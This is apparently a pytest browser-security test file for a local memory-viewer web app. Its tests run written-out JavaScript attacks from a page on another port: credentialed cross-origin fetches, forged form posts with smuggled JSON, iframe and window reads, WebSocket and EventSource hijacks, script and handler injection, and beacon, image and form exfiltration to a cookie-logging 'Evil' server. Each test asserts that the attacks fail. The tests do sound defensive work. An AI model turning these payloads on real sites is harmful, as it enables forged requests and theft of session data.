"""Another page of the same browser, on another port of this machine, and scripts in our own page: what they can do."""

from __future__ import annotations

import http.client
import json
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from foreword.viewer.app import ROUTES
from tests.viewer.conftest import Viewer, settled, visit

pytestmark = pytest.mark.long

# Everything that a page may send without asking anybody first; it tells what it could read of the answers.
ATTACK = """async ({origin, targets, body}) => {
    const read = [];
    const got = (how, what) => read.push(`${how}: ${String(what).slice(0, 80)}`);
    const loaded = (tag, name, address, extra = {}) => new Promise((done) => {
        const node = Object.assign(document.createElement(tag), extra);
        node.onload = () => { if (tag !== "iframe") got(tag, address); done(); };
        node.onerror = () => done();
        node[name] = address;
        document.body.append(node);
        setTimeout(done, 1500);
    });
    const tries = [];
    for (const [method, path] of targets) {
        const address = origin + path;
        for (const mode of ["cors", "no-cors", "same-origin"]) {
            for (const type of ["text/plain", "application/json"]) {
                const sent = method === "POST" ? {method, body, headers: {"Content-Type": type}} : {method};
                const asked = {mode, credentials: "include", signal: AbortSignal.timeout(3000), ...sent};
                tries.push(fetch(address, asked).then((answer) => answer.text())
                    .then((text) => { if (text) got(`fetch ${mode}`, text); }).catch(() => 0));
            }
        }
        if (method === "POST") navigator.sendBeacon(address, new Blob([body], {type: "text/plain"}));
    }
    await Promise.all(tries);
    for (const [method, path] of targets.filter(([method]) => method === "GET")) {
        const address = origin + path;
        await Promise.all([
            loaded("img", "src", address), loaded("script", "src", address),
            loaded("script", "src", address, {type: "module"}), loaded("link", "href", address, {rel: "stylesheet"}),
            loaded("link", "href", address, {rel: "prefetch"}).then(() => 0), loaded("object", "data", address),
        ]);
    }
    return read.filter((each) => !each.startsWith("link") && !each.startsWith("object"));
}"""


class Evil(BaseHTTPRequestHandler):
    """Serves an empty page, and notes which cookies it was sent."""

    cookies: list[str]

    def do_GET(self) -> None:
        self.cookies.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title><body>evil")

    def log_message(self, format: str, *args: Any) -> None:
        """Be silent."""


@pytest.fixture
def evil() -> Iterator[ThreadingHTTPServer]:
    Evil.cookies = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def page(browser: Any, viewer: Viewer) -> Iterator[Any]:
    """A page whose browser has the key. What is refused here counts for no visit, and what it says is meant to be."""
    context = browser.new_context()
    name, text = viewer.cookie
    context.add_cookies([{"name": name, "value": text, "url": viewer.origin, "httpOnly": True, "sameSite": "Strict"}])
    yield context.new_page()
    context.close()


def targets(viewer: Viewer) -> list[tuple[str, str]]:
    """Every route and method; an id where one belongs."""
    id = next(iter(viewer.ids.values()))
    names = {"/static/": "/static/app.js", "/": "/"}
    return [
        (method, names.get(path, f"{path}{id}" if path[-1] == "/" else path))
        for path, methods in ROUTES.items()
        for method in methods
    ]


def stored(viewer: Viewer) -> list[Any]:
    with closing(sqlite3.connect(f"file:{viewer.home.database}?mode=ro", uri=True)) as line:
        return [line.execute(f"SELECT * FROM {table}").fetchall() for table in ("memories", "links", "log")]


def test_a_page_on_another_port_reads_nothing_and_changes_nothing(
    viewer: Viewer, page: Any, evil: ThreadingHTTPServer
) -> None:
    visit(page, f"{viewer.origin}/memories")  # the cookie is there and good
    before = stored(viewer)
    there = page.context.new_page()
    there.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
    id = next(iter(viewer.ids.values()))
    body = json.dumps({"id": id, "ids": [id], "title": "forged", "kind": "note", "do": "promote", "yes": True})
    answer = {"origin": viewer.origin, "targets": targets(viewer), "body": body}
    assert there.evaluate(ATTACK, answer) == []
    for way in ("frame", "window", "events", "socket", "form"):
        assert there.evaluate(WAYS[way], viewer.origin) == [], way
    assert stored(viewer) == before
    visit(page, f"{viewer.origin}/health")  # and our own page still works


WAYS = {
    "frame": """async (origin) => {
        const frame = document.createElement("iframe");
        frame.src = origin + "/now";
        document.body.append(frame);
        await new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
        try { return [frame.contentDocument.body.textContent].filter(Boolean); } catch { return []; }
    }""",
    "window": """async (origin) => {
        const opened = window.open(origin + "/now");
        await new Promise((done) => setTimeout(done, 800));
        try { return opened.location.href === "about:blank" ? [] : [opened.document.body.textContent]; }
        catch { return []; } finally { opened?.close(); }
    }""",
    "events": """(origin) => new Promise((done) => {
        const source = new EventSource(origin + "/api/changes", {withCredentials: true});
        const read = [];
        source.onmessage = source.onopen = (event) => read.push(event.type);
        source.addEventListener("ready", () => read.push("ready"));
        setTimeout(() => { source.close(); done(read); }, 800);
    })""",
    "socket": """(origin) => new Promise((done) => {
        const line = new WebSocket(origin.replace("http", "ws") + "/api/changes");
        line.onopen = () => done(["open"]);
        line.onerror = () => done([]);
        setTimeout(() => done([]), 2000);
    })""",
    "form": """async (origin) => {
        const frame = Object.assign(document.createElement("iframe"), {name: "hole"});
        const form = Object.assign(document.createElement("form"), {
            method: "post", action: origin + "/api/undo", target: "hole", enctype: "text/plain"});
        form.append(Object.assign(document.createElement("input"), {name: '{"id": "', value: 'x"}'}));
        document.body.append(frame, form);
        form.submit();
        await new Promise((done) => setTimeout(done, 800));
        try { return [frame.contentDocument.body.textContent].filter(Boolean); } catch { return []; }
    }""",
}


def test_a_link_that_another_page_opens_shows_it_nothing_and_its_browser_the_viewer(
    viewer: Viewer, page: Any, evil: ThreadingHTTPServer
) -> None:
    page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
    link = viewer.link()
    for request in ("cors", "no-cors"):
        assert page.evaluate(
            "([link, mode]) => fetch(link, {mode, credentials: 'include'}).then((got) => got.text()).catch(() => '')",
            [link, request],
        ) in ("", None)
    page.goto(link)  # what was refused did not use it up
    page.wait_for_url("**/now")
    assert "token" not in page.evaluate("document.referrer")


# What the driver runs itself may evaluate text; what a timer runs is the page's own.
INJECTED = """() => new Promise((done) => setTimeout(() => {
    window.ran = [];
    const tried = [];
    const attempt = (name, fn) => { try { fn(); tried.push(name); } catch { /* refused at once */ } };
    const script = (more) => {
        const node = document.createElement("script");
        more(node);
        document.body.append(node);
    };
    attempt("inner", () => { document.body.innerHTML += "<img src=x onerror=ran.push('inner')>"; });
    attempt("outer", () => { document.querySelector("footer, header, nav").outerHTML = "<b>x</b>"; });
    attempt("adjacent", () => document.body.insertAdjacentHTML("beforeend", "<script>ran.push(1)</script>"));
    attempt("write", () => document.write("<script>ran.push(2)</script>"));
    attempt("eval", () => eval("ran.push('eval')"));
    attempt("function", () => new Function("ran.push('function')")());
    attempt("timer", () => setTimeout("ran.push('timer')", 0));
    attempt("policy", () => trustedTypes.createPolicy("default", {createHTML: (text) => text}));
    attempt("parser", () => new DOMParser().parseFromString("<script>1</script>", "text/html"));
    attempt("srcdoc", () => { document.createElement("iframe").srcdoc = "<script>parent.ran.push(3)</script>"; });
    const could = [...tried];
    attempt("text", () => script((node) => { node.text = "ran.push('text')"; }));
    attempt("child", () => script((node) => node.append("ran.push('child')")));
    attempt("data", () => script((node) => { node.src = "data:text/javascript,ran.push('data')"; }));
    attempt("handler", () => {
        const node = document.createElement("img");
        node.setAttribute("onerror", "ran.push('handler')");
        node.src = "/static/nowhere.svg";
        document.body.append(node);
    });
    attempt("href", () => {
        const node = document.createElement("a");
        node.href = "javascript:ran.push('href')";
        document.body.append(node);
        node.click();
    });
    const node = document.createElement("p");
    node.setAttribute("style", "position: fixed");
    document.body.append(node);
    const style = document.createElement("style");
    style.append("p { position: fixed }");
    document.head.append(style);
    setTimeout(() => done({could, ran: window.ran, style: getComputedStyle(node).position}), 500);
}, 0))"""


def test_no_script_handler_or_style_that_is_put_into_our_page_has_any_effect(viewer: Viewer, page: Any) -> None:
    for path in ("/now", "/memories"):
        visit(page, viewer.origin + path)
        assert page.evaluate(INJECTED) == {"could": [], "ran": [], "style": "static"}


OUT = """async (there) => {
    const sent = [];
    const image = new Promise((done) => {
        const node = new Image();
        node.onload = () => { sent.push("image"); done(); };
        node.onerror = done;
        node.src = there + "i";
    });
    await Promise.all([image, fetch(there + "f", {mode: "no-cors"}).then(() => sent.push("fetch")).catch(() => 0)]);
    navigator.sendBeacon(there + "b", "x");
    const form = Object.assign(document.createElement("form"), {action: there + "o", method: "get"});
    document.body.append(form);
    form.submit();
    const base = Object.assign(document.createElement("base"), {href: there});
    document.head.append(base);
    sent.push(...(document.baseURI.startsWith(there) ? ["base"] : []));
    await new Promise((done) => setTimeout(done, 500));
    return sent;
}"""


def test_nothing_in_our_page_can_send_anything_to_another_port(
    viewer: Viewer, page: Any, evil: ThreadingHTTPServer
) -> None:
    visit(page, f"{viewer.origin}/memories")
    assert page.evaluate(OUT, f"http://127.0.0.1:{evil.server_address[1]}/") == []
    assert Evil.cookies == [], "nobody was asked"


def test_the_cookie_that_another_port_is_sent_opens_nothing_by_itself(
    viewer: Viewer, page: Any, evil: ThreadingHTTPServer
) -> None:
    """Browsers send it along, whatever we say: what is behind it must not hang on the cookie alone."""
    page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
    assert any(viewer.cookie[1] in each for each in Evil.cookies)
    answer = http.client.HTTPConnection("127.0.0.1", viewer.port, timeout=10)
    with closing(answer):
        answer.request("GET", "/api/projects", headers={"Cookie": Evil.cookies[0]})
        assert answer.getresponse().status == 403, "without what only our own page says"


def test_what_was_forgotten_is_not_shown_by_going_back(viewer: Viewer, page: Any) -> None:
    title = "zqxjkwvb is what the quokkas call it"
    answer = {"kind": "note", "title": title, "project_path": str(viewer.home.root.parent)}
    id = viewer.client.post("/api/memories", answer)["memories"][0]["id"]
    visit(page, f"{viewer.origin}/memories/{id}")
    page.get_by_text(title).first.wait_for()
    visit(page, f"{viewer.origin}/health")
    viewer.client.post("/api/forget", {"ids": [id], "yes": True})
    page.go_back()
    settled(page)
    page.get_by_text("there is no").first.wait_for()
    assert "zqxjkwvb" not in page.content()
